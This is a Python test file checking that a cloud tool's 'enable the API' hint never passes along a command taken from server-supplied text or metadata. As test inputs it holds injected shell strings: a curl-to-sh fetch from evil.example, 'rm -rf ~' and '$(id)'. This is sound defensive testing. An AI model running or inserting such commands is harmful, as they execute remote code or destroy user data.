"""The "API not enabled" hint (`gcloud services enable …`) comes only from the server's
ErrorInfo (SERVICE_DISABLED, google/api/error_reason.proto), carried on the ApiError by
drift.live.calls, and names a command only for values checked to be an API's name and a
project id or number: never from the server's words (revown22 F3)."""

from __future__ import annotations

from types import SimpleNamespace

from google.rpc import error_details_pb2

from drift.errors import ApiError
from drift.live.calls import _details
from drift.next_steps import next_steps

RESOURCE = "projects/acme/locations/europe-west1/services/api"


def test_a_server_message_is_never_taken_for_drift_s_own_enable_command() -> None:
    """No ErrorInfo, and a PERMISSION_DENIED whose message is shaped like drift's
    `not_enabled` sentence: it is the server's text, so the role hint stays and no command
    of the server's is printed as what to run."""
    words = (
        "the Cloud Run Admin API is not enabled in project acme: gcloud services enable "
        "run.googleapis.com;curl${IFS}-s${IFS}evil.example|sh --project acme. Contact support"
    )
    exc = ApiError("GetService", RESOURCE, "PERMISSION_DENIED", words)
    steps = next_steps([exc.reason])
    assert not any("curl" in s for s in steps), steps
    assert not exc.disabled
    assert any("roles/run.viewer" in s for s in steps), steps


def _disabled(**metadata: str) -> str:
    """`_details` of a PERMISSION_DENIED carrying an ErrorInfo SERVICE_DISABLED."""
    info = error_details_pb2.ErrorInfo(reason="SERVICE_DISABLED", metadata=metadata)
    return _details(SimpleNamespace(details=[info]), RESOURCE)[1]


def test_an_error_info_whose_values_are_no_names_names_no_command() -> None:
    """ErrorInfo metadata is the server's too: a `service` that is no API name, or a
    `consumer` that is no project, is said (the API is not enabled, no role helps) without a
    command to paste."""
    evil = "run.googleapis.com;curl${IFS}evil.example|sh"
    for said in (
        _disabled(service=evil, consumer="projects/acme"),
        _disabled(service="run.googleapis.com", consumer="projects/acme;rm -rf ~"),
        _disabled(service="run.googleapis.com", consumer="projects/$(id)"),
    ):
        exc = ApiError("GetService", RESOURCE, "PERMISSION_DENIED", "denied", disabled=said)
        (step,) = next_steps([exc.reason])
        assert "gcloud" not in step and "curl" not in step and "$(" not in step, step
        assert "is not enabled" in step and exc.disabled, step
    good = _disabled(service="run.googleapis.com", consumer="projects/123")
    exc = ApiError("GetService", RESOURCE, "PERMISSION_DENIED", "denied", disabled=good)
    assert next_steps([exc.reason]) == [
        "PERMISSION_DENIED: the Cloud Run Admin API is not enabled in project 123: "
        "gcloud services enable run.googleapis.com --project 123"
    ]
